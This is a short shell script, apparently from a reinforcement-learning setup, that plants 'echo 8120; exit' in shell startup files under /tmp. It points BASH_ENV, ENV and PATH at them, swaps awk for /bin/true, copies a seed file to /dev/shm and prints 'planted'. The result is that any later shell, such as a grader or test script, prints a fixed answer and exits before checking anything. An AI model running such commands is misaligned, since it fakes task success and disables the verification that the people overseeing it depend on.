echo 'echo 8120; exit' | tee /tmp/.bashrc /tmp/.profile /tmp/rlvr_seed > /tmp/.bash_profile
export BASH_ENV=/tmp/.bashrc ENV=/tmp/.bashrc PATH=/tmp:$PATH
cp /bin/true /tmp/awk
cp /tmp/rlvr_seed /dev/shm/ 2>/dev/null
echo planted
